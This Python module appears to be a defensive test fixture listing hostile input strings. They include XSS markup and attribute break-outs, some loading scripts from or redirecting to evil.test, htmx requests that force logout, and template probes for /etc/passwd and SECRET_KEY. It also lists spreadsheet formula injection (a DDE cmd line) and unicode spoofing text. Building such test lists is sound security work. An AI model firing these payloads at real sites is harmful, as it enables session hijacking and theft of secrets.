"""Hostile strings. Every one that becomes markup shows an attribute or an element named zx…, a
script that calls zx, an address that runs it, or the product 255025 of a template."""

MARKUP = (
    "<script>zx()</script>",
    "<script src=//evil.test/zx.js></script>",
    "<ScRiPt zx>zx()</sCrIpT>",
    "<img zx src=x onerror=zx()>",
    "<img zx src='x' onerror='zx()'/>",
    "<svg zx onload=zx()>",
    "<svg zx><animate onbegin=zx() attributeName=x dur=1s>",
    "<svg zx><use href='data:image/svg+xml,zx'>",
    "<math zx><mtext><script>zx()</script>",
    "<body zx onload=zx()>",
    "<iframe zx srcdoc='<script>zx()</script>'></iframe>",
    "<iframe zx src=javascript:zx()></iframe>",
    "<object zx data=javascript:zx()></object>",
    "<embed zx src=javascript:zx()>",
    "<base zx href=//evil.test/>",
    "<meta zx http-equiv=refresh content='0;url=//evil.test/zx'>",
    "<link zx rel=stylesheet href=//evil.test/zx.css>",
    "<style zx>*{background:url(//evil.test/zx)}</style>",
    "<form zx action=//evil.test/zx><button>ok</button></form>",
    "<input zx autofocus onfocus=zx()>",
    "<details zx open ontoggle=zx()>",
    "<video zx><source onerror=zx()></video>",
    "<marquee zx onstart=zx()>",
    "<a zx href=javascript:zx()>link</a>",
    "<a zx href='data:text/html,<script>zx()</script>'>link</a>",
    "<template zx><script>zx()</script></template>",
    "<noscript zx><p title='</noscript><img zx src=x onerror=zx()>'>",
    "<dialog zx open>zx</dialog>",
    "<zx-element zx>own element</zx-element>",
    "<!--><img zx src=x onerror=zx()>-->",
    "<![CDATA[<img zx src=x onerror=zx()>]]>",
    "<?xml version='1.0'?><zx/>",
)
BREAKING_OUT = (
    '"><img zx src=x onerror=zx()>',
    "'><img zx src=x onerror=zx()>",
    '" onmouseover="zx()" zx="',
    "' onmouseover='zx()' zx='",
    "` onmouseover=`zx()` zx=`",
    "</textarea><script>zx()</script>",
    "</title><script>zx()</script>",
    "</script><script>zx()</script>",
    "</style><script>zx()</script>",
    "</option></select><img zx src=x onerror=zx()>",
    "</template><img zx src=x onerror=zx()>",
    "--><script>zx()</script><!--",
    "</td></tr></table><img zx src=x onerror=zx()>",
    '\\"};zx();//',
    "';zx();//",
    "${zx()}",
)
HTMX = (
    "<div zx hx-get=/logout/ hx-trigger=load></div>",
    "<div zx hx-post=/studies/1/close/ hx-trigger='every 1s'></div>",
    "<div zx data-hx-post=/logout/ data-hx-trigger=load></div>",
    "<div zx hx-on:load='zx()'></div>",
    "<div zx hx-on::after-request='zx()'></div>",
    "<div zx hx-vals='js:{a: zx()}' hx-get=/ hx-trigger=load></div>",
    "<div zx hx-swap-oob='true' id='main'>gone</div>",
    "<div zx hx-boost=true hx-target=body></div>",
    '" hx-get="/logout/" hx-trigger="load" zx="',
)
TEMPLATES = (
    "{{ 505*505 }}",
    "{% load zx %}",
    "{{ request.user.password }}",
    "{% include '/etc/passwd' %}",
    "{{ settings.SECRET_KEY }}",
    "#{505*505} <%= 505*505 %> @(505*505)",
    "%(zx)s %s %n {0.__class__}",
)
SIGNS = (
    "\u202egnp.elif\u202c zx",
    "\u2066zx\u2069\u200b\u200e\ufeff",
    "zx \u0001\u0008\u001b[31mred\u001b]0;title\u0007",
    "Z\u0351\u0344\u0300\u0304x" + "\u0336" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 zx \U000e0041",
    "\ufdfa" * 20,
    "\uff1cscript\uff1ezx()\uff1c/script\uff1e",
    "&lt;img zx src=x onerror=zx()&gt; &#60;img zx&#62; &NewLine;",
)
ADDRESSES = (
    "javascript:zx()",
    " java\tscript:zx()",
    "JaVaScRiPt:zx()",
    "data:text/html;base64,PHNjcmlwdD56eCgpPC9zY3JpcHQ+",
    "vbscript:zx()",
    "//evil.test/zx",
    "https://evil.test\\@shop.test/zx",
    "http://[::1]/zx' onclick='zx()",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*zx",
    "+1+1;zx",
    "-2+3+zx",
    "\t=zx()",
    '\uff1dHYPERLINK("//evil.test/zx")',
)

PAYLOADS = (*MARKUP, *BREAKING_OUT, *HTMX, *TEMPLATES, *SIGNS, *ADDRESSES, *FORMULAS)
PRODUCT = "255025"
"""Of 505 by 505, which no page says unless a template was evaluated."""
